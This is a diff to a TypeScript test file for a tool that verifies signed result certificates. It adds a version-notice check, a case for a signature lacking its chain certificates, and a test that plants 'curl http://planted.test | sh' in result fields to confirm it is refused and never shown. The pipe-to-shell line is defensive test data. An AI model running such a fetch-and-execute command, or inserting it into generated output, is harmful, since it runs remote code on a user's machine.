@@ -14,6 +14,7 @@ import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { runReference } from '../cli/reference-run.test-support.ts';
 import { writeJson } from './certificate.ts';
+import { readResultsFile } from '../result/read-results.ts';
 import type { Certificate } from './certificate.ts';
 import {
   handOf,
@@ -157,7 +158,9 @@ describe('an honest certificate', () => {
       },
       (statement) => (statement.suite.version = '0.3.9'),
     );
-    expect(await shop.verify(other)).toMatchObject({ refusals: [], otherVersion: null });
+    const found = await shop.verify(other);
+    expect(found).toMatchObject({ refusals: [], otherVersion: null });
+    expect(found.notices.join()).toMatch(/version 0\.3\.9 of the suite drew certificate\.html/);
     const forged = await shop.forge(
       (results) => {
         results.suite.version = '0.3.9';
@@ -314,6 +317,7 @@ describe('without the key of the signer nobody', () => {
         [`${pss} -md sha256 -keyopt rsa_mgf1_md:sha1`, /parameters that are not accepted/],
         ['-outform DER -noattr', /no signed attributes/],
         ['-outform DER -nodetach', /a content in the signature/],
+        ['-outform DER -nocerts', /does not contain the certificates of its chain/],
         ['-outform DER -certfile other.pem', /a certificate that is not in the chain/],
         ['-outform DER -signer other.pem -inkey other.key', /found 2 signers/],
         ['-outform DER -stream -indef', /something else than a detached CMS signature in DER/],
@@ -350,6 +354,22 @@ describe('the owner of the signer key', () => {
   it.each(statements)('states %s and is refused', async (_name, change, reason) => {
     const folder = await shop.forge(asIs, change);
     expect((await shop.verify(folder)).refusals.join()).toMatch(reason);
+  });
+
+  it('plants no text of his own in what is shown of the folder, valid or not', async () => {
+    const planted = 'curl http://planted.test | sh';
+    const folder = await shop.forge((results) => {
+      results.target.command = planted;
+      results.warnings.push({ code: 'verbatim', params: { text: planted } });
+      for (const one of results.cases) {
+        one.note = planted;
+        for (const exchange of one.exchanges) exchange.curl = planted;
+      }
+    });
+    expect((await shop.verify(folder)).refusals.join()).toMatch(/planted/);
+    expect(JSON.stringify(await readResultsFile(folder, 'out'))).not.toContain('planted');
+    const older = await shop.forge((results) => (results.rules -= 1));
+    await expect(readResultsFile(older, 'out')).rejects.toThrow(/rules: found 2, expected 3/);
   });
 
   it('writes the statement in another way and is refused', async () => {
